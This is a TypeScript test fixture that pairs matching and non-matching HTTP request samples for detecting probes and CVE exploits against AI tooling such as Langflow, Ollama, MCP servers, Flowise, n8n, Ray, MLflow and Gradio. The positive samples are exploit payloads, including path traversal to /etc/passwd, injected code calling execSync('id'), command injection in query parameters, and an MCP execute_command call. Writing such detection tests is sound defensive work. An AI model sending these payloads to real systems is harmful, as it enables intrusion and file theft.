import type { Cases } from './cases.ts';

export const aiTools: Cases = {
  'CVE-2025-3248': [
    'POST /api/v1/validate/code\n\n{"code":"@exec(\\"raise Exception(1)\\")\\ndef a():\\n  pass"}',
    'POST /api/v1/validate/email\n\n{}',
  ],
  'langflow-looked-for': ['GET /api/v1/auto_login', 'GET /api/v1/login'],
  'CVE-2026-33017': [
    'POST /api/v1/build_public_tmp/7d1e/flow\n\n{"data":{"nodes":[{"data":{"node":{"template":{"code":{"value":"import os"}}}}}]}}',
    'POST /api/v1/build/7d1e/flow\n\n{"inputs":{}}',
  ],
  'CVE-2024-37032': [
    'POST /api/pull\n\n{"name":"198.51.100.7/rogue/../../../etc/passwd","insecure":true}',
    'POST /registry/pull\n\n{"name":"llama3"}',
  ],
  'ollama-model-use': ['POST /api/pull\n\n{"name":"llama3"}', 'POST /repo/api/pulls\n\n{"title":"a"}'],
  'ollama-looked-for': ['GET /api/tags', 'GET /blog/api/tags'],
  'openai-style-api-looked-for': [
    'POST /v1/chat/completions\n\n{"model":"a","messages":[]}',
    'GET /shop/v1/models/2026',
  ],
  'mcp-server-looked-for': [
    'POST /mcp\n\n{"jsonrpc":"2.0","id":1,"method":"tools/list"}',
    'POST /rpc\n\n{"jsonrpc":"2.0","id":1,"method":"eth_blockNumber"}',
  ],
  'mcp-tool-call': [
    'POST /mcp\n\n{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"execute_command","arguments":{"command":"id"}}}',
    'POST /mcp\n\n{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"weather","arguments":{"city":"Oslo"}}}',
  ],
  'CVE-2025-49596': [
    'GET /sse?transportType=stdio&command=touch&args=%2Ftmp%2Fa',
    'GET /sse?transportType=sse&url=https://mcp.example',
  ],
  'CVE-2025-59528': [
    'POST /api/v1/node-load-method/customMCP\n\n{"loadMethod":"listActions","inputs":{"mcpServerConfig":"({x:(function(){return 1})()})"}}',
    'POST /api/v1/node-load-method/chatOpenAI\n\n{"loadMethod":"listModels"}',
  ],
  'CVE-2024-31621': ['GET /API/V1/credentials\nx-request-from: internal', 'GET /API/V1/credentials'],
  'CVE-2024-36420': [
    'GET /api/v1/get-upload-file?chatflowId=a&chatId=b&fileName=../../etc/passwd',
    'GET /api/v1/get-upload-file?fileName=a.png',
  ],
  'CVE-2025-58434': [
    'POST /api/v1/account/forgot-password\n\n{"user":{"email":"admin@decoy.example"}}',
    'POST /account/forgot-password\n\n{}',
  ],
  'CVE-2025-26319': [
    'POST /api/v1/attachments/..%2f..%2f..%2fusr/..%2fapi.json\n\nx',
    'POST /api/v1/attachments/7d1e/chat\n\nx',
  ],
  'CVE-2025-68613': [
    'POST /rest/workflows\n\n{"nodes":[{"parameters":{"value":"={{ (function(){ return this.process.mainModule.require(\'child_process\').execSync(\'id\') })() }}"}}]}',
    'POST /rest/workflows\n\n{"nodes":[{"parameters":{"value":"={{ $json.name }}"}}]}',
  ],
  'CVE-2026-21858': [
    'POST /form/7d1e\nContent-Type: application/json\n\n{"data":{},"files":{"a":{"filepath":"/etc/passwd","originalFilename":"a"}}}',
    'POST /form/7d1e\nContent-Type: application/json\n\n{"data":{"name":"mara"}}',
  ],
  'CVE-2023-48022': ['POST /api/jobs/\n\n{"entrypoint":"id"}', 'POST /api/jobs/\n\n{"title":"Gardener"}'],
  'CVE-2023-6019': [
    'GET /worker/cpu_profile?pid=1&ip=192.0.2.7&duration=5&native=0&format=`id`',
    'GET /worker/cpu_profile?pid=1&format=flamegraph',
  ],
  'CVE-2023-6021': [
    'GET /api/v0/logs/file?node_id=a&filename=../../../../../etc/passwd&lines=50',
    'GET /api/v0/logs/file?filename=raylet.out',
  ],
  'CVE-2023-1177': [
    'POST /ajax-api/2.0/mlflow/model-versions/create\n\n{"name":"a","source":"file:///etc/"}',
    'POST /ajax-api/2.0/mlflow/model-versions/create\n\n{"name":"a","source":"models:/a/1"}',
  ],
  'CVE-2023-6909': [
    'POST /ajax-api/2.0/mlflow/experiments/create\n\n{"name":"a","artifact_location":"http:///#/../../../../etc/"}',
    'POST /ajax-api/2.0/mlflow/experiments/create\n\n{"name":"a","artifact_location":"s3://bucket/a"}',
  ],
  'CVE-2024-1561': [
    'POST /component_server\n\n{"component_id":"1","data":"/etc/passwd","fn_name":"move_resource_to_block_cache","session_hash":"a"}',
    'POST /component_server\n\n{"component_id":"1","fn_name":"ls"}',
  ],
  'CVE-2023-51449': ['GET /file=/etc/passwd', 'GET /file=logo.png'],
  'CVE-2023-43654': ['POST /models?url=http://198.51.100.7/a.mar', 'POST /models?name=a'],
  'CVE-2025-27520': [
    'POST /summarize\nContent-Type: application/vnd.bentoml+pickle\n\nx',
    'POST /summarize\nContent-Type: application/json\n\n{}',
  ],
  'CVE-2025-62164': [
    'POST /v1/completions\n\n{"model":"a","prompt_embeds":"UEsDBA"}',
    'POST /v1/completions\n\n{"model":"a","prompt":"Hello"}',
  ],
  'CVE-2024-6587': [
    'POST /chat/completions\n\n{"model":"command-nightly","messages":[],"api_base":"http://198.51.100.7"}',
    'POST /chat/completions\n\n{"model":"a","messages":[]}',
  ],
  'CVE-2024-5751': [
    'POST /config/update\n\n{"environment_variables":{"UI_LOGO_PATH":"/etc/passwd"}}',
    'POST /config/update\n\n{"theme":"dark"}',
  ],
  'comfyui-manager-install': [
    'POST /customnode/install/git_url\n\nhttp://198.51.100.7/a.git',
    'POST /node/install\n\na',
  ],
  'jupyter-open': ['POST /api/terminals', 'POST /shop/terminals'],
  'CVE-2026-39987': ['GET /terminal/ws\nUpgrade: websocket', 'GET /terminals/7'],
  'anythingllm-setup': [
    'POST /api/system/enable-multi-user\n\n{"username":"a","password":"b"}',
    'POST /api/system/users\n\n{}',
  ],
  'open-webui-looked-for': ['POST /api/v1/auths/signup\n\n{"name":"a"}', 'POST /signup\n\n{}'],
  'CVE-2025-64496': [
    'POST /api/v1/functions/create\n\n{"id":"a","content":"import os"}',
    'GET /api/v1/functions/',
  ],
  'gradio-looked-for': ['GET /gradio_api/info', 'GET /api/info'],
  'assistant-files-read': ['GET /.cursor/mcp.json', 'GET /blog/cursor-tips.html'],
};
